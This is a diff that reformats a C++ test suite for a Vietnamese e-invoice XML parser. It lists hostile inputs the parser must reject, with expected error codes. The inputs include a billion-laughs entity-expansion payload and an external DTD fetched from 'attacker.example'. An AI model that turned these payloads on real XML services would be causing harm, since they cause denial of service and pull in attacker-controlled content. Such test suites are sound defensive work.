@@ -25,10 +25,11 @@ void add_parser(Suite& s) {
   const auto v = demo_vat();
   const std::string decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
   hostile(s, "billion-laughs",
-          decl + "<!DOCTYPE HDon [<!ENTITY a \"hahahahahahahahahaha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
-                 "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
-                 "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
-                 "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>" +
+          decl +
+              "<!DOCTYPE HDon [<!ENTITY a \"hahahahahahahahahaha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
+              "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
+              "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
+              "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>" +
               edit(body(v), "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&h;</THDon>"),
           {"XML-DOCTYPE"}, "Billion laughs: nested entities that expand to gigabytes",
           "Tấn công \"tỷ tiếng cười\": thực thể lồng nhau nở ra hàng gigabyte");
@@ -37,12 +38,10 @@ void add_parser(Suite& s) {
               edit(body(v), "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&x;</THDon>"),
           {"XML-DOCTYPE"}, "XXE: an external entity reading a local file",
           "XXE: thực thể bên ngoài đọc một tệp cục bộ");
-  hostile(s, "xxe-network",
-          decl + "<!DOCTYPE HDon SYSTEM \"http://attacker.example/evil.dtd\">" + body(v), {"XML-DOCTYPE"},
-          "An external DTD fetched from the network", "DTD bên ngoài tải qua mạng");
-  hostile(s, "undeclared-entity",
-          edit(v, "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&hoadon;</THDon>"), {"XML-ENTITY"},
-          "A reference to an entity no DTD declares", "Tham chiếu tới thực thể không được khai báo");
+  hostile(s, "xxe-network", decl + "<!DOCTYPE HDon SYSTEM \"http://attacker.example/evil.dtd\">" + body(v),
+          {"XML-DOCTYPE"}, "An external DTD fetched from the network", "DTD bên ngoài tải qua mạng");
+  hostile(s, "undeclared-entity", edit(v, "<THDon>Hóa đơn giá trị gia tăng</THDon>", "<THDon>&hoadon;</THDon>"),
+          {"XML-ENTITY"}, "A reference to an entity no DTD declares", "Tham chiếu tới thực thể không được khai báo");
   {
     std::string deep;
     for (int i = 0; i < 300; ++i) deep += "<TTin>";
@@ -57,8 +56,8 @@ void add_parser(Suite& s) {
   hostile(s, "invalid-utf8", edit(v, "Hợp tác xã", "H\xE1\xBB t\xC3\xA1\xC3 x\xC3\xA3"), {"XML-UTF8"},
           "Bytes that are not valid UTF-8 in the seller's name", "Tên người bán chứa byte không hợp lệ theo UTF-8");
   static const char kPng[] = "\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1F\x15\xC4\x89";
-  hostile(s, "binary", std::string(kPng, sizeof kPng - 1),
-          {"XML-UTF8"}, "A binary file (a PNG image) given as an invoice: refused as soon as it is not UTF-8",
+  hostile(s, "binary", std::string(kPng, sizeof kPng - 1), {"XML-UTF8"},
+          "A binary file (a PNG image) given as an invoice: refused as soon as it is not UTF-8",
           "Tệp nhị phân (ảnh PNG) được đưa vào như hóa đơn: bị từ chối ngay vì không phải UTF-8");
   hostile(s, "truncated", v.substr(0, v.size() / 2), {"XML-MALFORMED"}, "An invoice cut in the middle",
           "Hóa đơn bị cắt ngang ở giữa");
@@ -73,8 +72,7 @@ void add_parser(Suite& s) {
   hostile(s, "no-dlhdon", decl + "<HDon><DSCKS><NBan/></DSCKS></HDon>", {"DOC-NO-DATA", "SCHEMA-VERSION"},
           "An HDon without its data (DLHDon), hence without a format version",
           "HDon không có dữ liệu hóa đơn (DLHDon), do đó không có phiên bản định dạng", false, "validate");
-  hostile(s, "two-dlhdon",
-          edit(v, "</DLHDon>", "</DLHDon><DLHDon Id=\"data2\"><TTChung/></DLHDon>"),
+  hostile(s, "two-dlhdon", edit(v, "</DLHDon>", "</DLHDon><DLHDon Id=\"data2\"><TTChung/></DLHDon>"),
           {"DOC-DUPLICATE", "SCHEMA-REPEATED"}, "Two DLHDon in one invoice", "Hai DLHDon trong một hóa đơn", false,
           "validate");
 }
